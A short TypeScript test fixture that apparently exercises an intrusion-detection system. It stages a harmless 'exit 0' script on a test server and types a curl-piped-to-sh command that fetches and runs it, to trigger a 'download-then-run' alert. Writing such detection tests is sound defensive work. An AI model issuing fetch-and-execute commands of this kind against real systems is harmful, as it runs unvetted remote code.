/** A script fed to a shell straight from the network, typed at a prompt: only the two programs are seen. */
import type { Attack } from "../attack.ts";

export const attack = {
  alert: "download-then-run",
  needs: ["root", "audit", "sshd"],
  prepare: async (host) => host.downloads.put(`/${host.word}.sh`, "exit 0\n"),
  perform: async (host) =>
    void (await host.type(`curl -s http://${host.remote}:${host.downloads.port}/${host.word}.sh | sh`)),
} satisfies Attack;
